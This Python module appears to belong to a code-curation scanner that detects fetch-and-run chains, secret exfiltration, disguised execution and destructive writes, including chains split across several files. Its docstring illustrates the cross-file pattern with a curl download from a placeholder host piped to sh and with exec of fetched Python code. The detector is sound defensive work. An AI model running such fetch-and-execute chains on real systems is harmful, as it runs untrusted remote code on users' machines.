"""What the programs of a skill do together: by their syntax where that is known, and from one file to another.

    one.sh   curl -so /tmp/t https://x.example/t              net.py   def load(u): return urlopen(u).read()
    two.sh   sh /tmp/t                                        main.py  exec(net.load(u))

Each half is harmless, and each file alone is. Python is read as a tree (see `python_flow`); other languages as text.
"""

import posixpath
from collections.abc import Iterator
from typing import NamedTuple

from repo_server.curation.checks import downloads, persistence, saves
from repo_server.curation.checks.context import is_warning
from repo_server.curation.checks.document import Document, Hit, Language
from repo_server.curation.checks.purpose import Purpose
from repo_server.curation.checks.python_facts import Deed, Kind, Summary
from repo_server.curation.checks.python_flow import deeds_of, imports_of
from repo_server.curation.checks.saves import Save
from signing.format.finding import Severity

_RUNS = "name the program, its version and digest in the skill, and ship or package it"
_SAY = "say in the skill's description what is sent where and why, or remove it"
_OF: dict[Kind, tuple[str, str]] = {
    Kind.FETCHED_RUNS: ("remote-execution.fetch-to-shell", f"runs what it fetches; {_RUNS}"),
    Kind.FETCHED_FILE_RUNS: (
        "remote-execution.fetch-then-run",
        f"keeps what it fetches and runs it; {_RUNS}",
    ),
    Kind.DECODED_RUNS: (
        "remote-execution.decode-to-shell",
        f"runs what it decodes or cuts out of a file that is no program; {_RUNS}",
    ),
    Kind.SECRET_LEAVES: ("exfiltration.secret", f"a secret is read, and flows into what is sent; {_SAY}"),
    Kind.KEY_LEAVES: ("exfiltration.foreign-key", f"a key goes to another service than its own; {_SAY}"),
    Kind.DETOUR: (
        "disguise.detour",
        "code reaches what it runs by a name that is worked out, so that nobody sees it",
    ),
    Kind.DESTROYS: ("system.destroys", "deletes or overwrites everything in a folder of the user"),
}


class _Module(NamedTuple):
    document: Document
    row: int
    deeds: list[Deed]
    summary: Summary


def judge(documents: list[Document], purpose: Purpose) -> Iterator[tuple[Document, Hit]]:
    """Yield what the programs among ``documents`` do, each hit with the text it stands in."""
    modules = _modules(documents)
    for module in modules:
        for deed in module.deeds:
            if hit := _hit(module, deed, purpose):
                yield module.document, hit
    yield from _handed_over(documents, modules)
    for document in documents:
        if document.crowded:
            message = "holds more of one kind than is examined; make it smaller: noise must not be a way to hide something"
            yield document, Hit(check="programs.too-many", severity=Severity.BLOCK, at=0, message=message)


def _modules(documents: list[Document]) -> list[_Module]:
    """Read each program alone, and again those that import a neighbour which holds, runs or sends something."""
    found = []
    for document in documents:
        for row, tree in document.trees:
            found.append((document, row, tree, *deeds_of(tree)))
    offers = {
        _stem(document): summary
        for document, row, _, _, summary in found
        if row == 0 and (summary.runs or summary.sends or any(summary.holds.values()))
    }
    modules = []
    for document, row, tree, alone, offered in found:
        siblings = {
            name: offers[name] for name in set(imports_of(tree)) & offers.keys() if name != _stem(document)
        }
        deeds, summary = deeds_of(tree, siblings) if siblings else (alone, offered)
        modules.append(_Module(document, row, deeds, summary))
    return modules


def _stem(document: Document) -> str:
    return posixpath.splitext(posixpath.basename(document.path))[0]


def _hit(module: _Module, deed: Deed, purpose: Purpose) -> Hit | None:
    document = module.document
    at = _start(document, module.row + deed.line - 1)
    if deed.kind is Kind.WRITES:
        kind = persistence.kind_of(deed.detail)
        if not kind:
            return None
        severity = persistence.weight(kind, purpose)
        message = f"changes {persistence.WHAT[kind]} ({deed.detail[:80]}); leave it to the user, or say so in the description"
        return Hit(check=f"persistence.{kind}", severity=severity, at=at, message=message)
    check, message = _OF[deed.kind]
    severity = Severity.NOTE if not document.is_code and is_warning(document, at) else Severity.BLOCK
    return Hit(check=check, severity=severity, at=at, message=message)


def _start(document: Document, row: int) -> int:
    begin, end = document.line_bounds(row)
    line = document.text[begin:end]
    return begin + len(line) - len(line.lstrip())


def _handed_over(documents: list[Document], modules: list[_Module]) -> Iterator[tuple[Document, Hit]]:
    """What one file fetches and keeps, and another runs."""
    shipped = {posixpath.basename(document.path) for document in documents}
    found = [
        (document, save)
        for document in documents
        for save in saves.saves_in(document)
        if save.name not in shipped and not (save.tree and saves.is_known(save))
    ]
    found += [
        (module.document, Save(0, name, "", tree=False))
        for module in modules
        for path in sorted(module.summary.saved)
        if (name := posixpath.basename(path)) and name not in shipped and "{" not in name
    ]
    for document in documents if found else ():
        if document.language is Language.DATA and not document.how:
            continue
        others = [(origin, save) for origin, save in found if origin.path != document.path]
        kept = [save for _, save in others]
        kept += saves.copies_of(document, kept, anywhere=True)
        origins = {(save.at, save.host): origin for origin, save in others}
        for run in downloads.runs_of(document, kept, anywhere=True):
            origin = origins[run.save.at, run.save.host]
            if run.installed or is_warning(document, run.at):
                continue
            message = f"runs {run.save.name!r}, which {origin.path} fetches; {_RUNS}"
            yield (
                document,
                Hit(
                    check="remote-execution.fetch-then-run",
                    severity=Severity.BLOCK,
                    at=run.at,
                    message=message,
                ),
            )
